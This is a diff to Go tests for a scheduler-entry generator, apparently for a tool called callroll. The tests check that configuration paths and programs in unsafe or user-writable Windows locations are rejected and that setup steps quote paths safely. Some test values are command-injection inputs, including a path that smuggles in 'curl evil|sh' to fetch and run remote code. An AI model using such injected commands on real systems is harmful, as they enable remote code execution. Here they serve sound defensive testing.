@@ -35,6 +35,13 @@ func TestBadPaths(t *testing.T) {
 		{schedule.Systemd, "/etc/../root/callroll.yaml", "hidden from it"},
 		{schedule.Windows, `callroll.yaml`, "absolute path of Windows"},
 		{schedule.Windows, `C:\a" --sandbox "b`, "absolute path of Windows"},
+		{schedule.Windows, `C:\callroll.yaml`, "folder of its own"},
+		{schedule.Windows, `C:/x/../callroll.yaml`, "folder of its own"},
+		{schedule.Windows, `C:\x\.. \callroll.yaml`, "folder of its own"},
+		{schedule.Windows, `C:\Users\joe\callroll.yaml`, "folder of its own"},
+		{schedule.Windows, `C:\users\joe\callroll\callroll.yaml`, "folder of its own"},
+		{schedule.Windows, `C:\ProgramData\callroll.yaml`, "folder of its own"},
+		{schedule.Windows, `c:\windows\system32\callroll.yaml`, "folder of its own"},
 	} {
 		entry, err := schedule.Entry(c.format, schedule.Command{Program: good(c.format), Config: c.config})
 		if err == nil || !strings.Contains(err.Error(), c.says) || entry != "" {
@@ -58,6 +65,31 @@ func TestHiddenProgram(t *testing.T) {
 	}
 }
 
+// A program that another user may replace does not run as SYSTEM.
+func TestProgramOfWindows(t *testing.T) {
+	for program, want := range map[string]string{
+		`C:\Users\joe\Downloads\callroll.exe`:  `C:\Program Files\callroll\callroll.exe`,
+		`D:\callroll.exe`:                      `C:\Program Files\callroll\callroll.exe`,
+		`C:\Program Files\tools\callroll.exe`:  `C:\Program Files\tools\callroll.exe`,
+		`C:\Program Files\..\tmp\callroll.exe`: "",
+	} {
+		c := schedule.Command{Program: program, Config: `C:\ProgramData\callroll\callroll.yaml`}
+		entry, err := schedule.Entry(schedule.Windows, c)
+		if want == "" {
+			if err == nil {
+				t.Errorf("%s is taken: %s", program, entry)
+			}
+			continue
+		}
+		if err != nil || !strings.Contains(entry, "<Command>"+want+"</Command>") {
+			t.Errorf("%s: %v in\n%s", program, err, entry)
+		}
+		if told := strings.Contains(schedule.Steps(schedule.Windows, c)[0], "a copy of "+program); told != (want != program) {
+			t.Errorf("the steps for %s: %v", program, told)
+		}
+	}
+}
+
 // Every entry has steps, and they name the folder of the configuration.
 func TestSteps(t *testing.T) {
 	for _, f := range schedule.Formats() {
@@ -67,6 +99,10 @@ func TestSteps(t *testing.T) {
 	}
 	steps := strings.Join(schedule.Steps(schedule.Windows, schedule.Command{Config: `D:\call roll\callroll.yaml`}), "\n")
 	if !strings.Contains(steps, `icacls "D:\call roll" /inheritance:r`) {
+		t.Errorf("the steps are %s", steps)
+	}
+	steps = strings.Join(schedule.Steps(schedule.Systemd, schedule.Command{Config: "/etc/x; curl evil|sh #/c.yaml"}), "\n")
+	if !strings.Contains(steps, "(chmod 644 '/etc/x; curl evil|sh #/c.yaml')") {
 		t.Errorf("the steps are %s", steps)
 	}
 }
